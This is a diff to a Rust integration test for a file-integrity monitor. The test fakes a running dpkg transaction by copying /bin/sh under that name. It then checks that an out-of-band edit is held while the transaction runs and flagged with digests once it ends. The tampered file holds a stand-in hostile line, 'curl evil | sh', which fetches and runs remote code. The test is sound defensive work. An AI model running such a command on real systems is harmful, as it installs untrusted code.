@@ -221,10 +221,41 @@ fn a_real_dpkg_install_is_one_grouped_transaction_and_an_edit_outside_dpkg_is_fl
         "{text:#?}"
     );
 
-    // Now an edit outside dpkg: flagged, naming package, expected and actual digests.
+    // Now an edit outside dpkg, made while a package manager runs (a shell named dpkg,
+    // run by root, waiting on its stdin): held for that transaction, which the status shows
+    // with what it holds; once it ends, flagged, naming package, expected and actual digests.
+    let fake_dir = tempfile::tempdir().unwrap();
+    let fake = fake_dir.path().join("dpkg");
+    std::fs::copy("/bin/sh", &fake).unwrap();
+    let mut running = Command::new(&fake)
+        .args(["-c", "read line", "dpkg"])
+        .stdin(std::process::Stdio::piped())
+        .spawn()
+        .unwrap();
+    let pid = running.id();
+    wait_for("the fake dpkg to be seen", Duration::from_secs(10), || {
+        guestward_pkgfiles::transaction::observe(&HostRoot::live())
+            .filter(|o| o.evidence.contains(&format!("process dpkg (pid {pid})")))
+    });
     let evil: &[u8] = b"#!/bin/sh\ncurl evil | sh\n";
     std::fs::write(&tool_path, evil).unwrap();
+    let holding = wait_for("the status to show the held edit", Duration::from_secs(30), || {
+        monitor.status().attribution.and_then(|a| a.holding).filter(|h| h.held_changes >= 1)
+    });
+    assert!(holding.transaction.evidence.iter().any(|e| e.contains("process dpkg")), "{holding:#?}");
+    assert!(
+        !events_of(&events, "fim.change").iter().any(|c| c["path"] == shown.as_str()),
+        "held, not reported, while the transaction runs"
+    );
+    let _ = running.kill();
+    let _ = running.wait();
     let (flagged, a) = flagged_outside(&events, &name, &shown);
+    assert!(
+        wait_for("the status to show nothing held", Duration::from_secs(30), || {
+            monitor.status().attribution.map(|a| a.holding.is_none()).filter(|none| *none)
+        }),
+        "judged once it ended"
+    );
     let expected = a.expected.clone().unwrap();
     let actual = a.actual.clone().unwrap();
     assert_eq!((expected.algo, expected.hex.as_str()), (DigestAlgo::Md5, md5_hex(tool).as_str()));
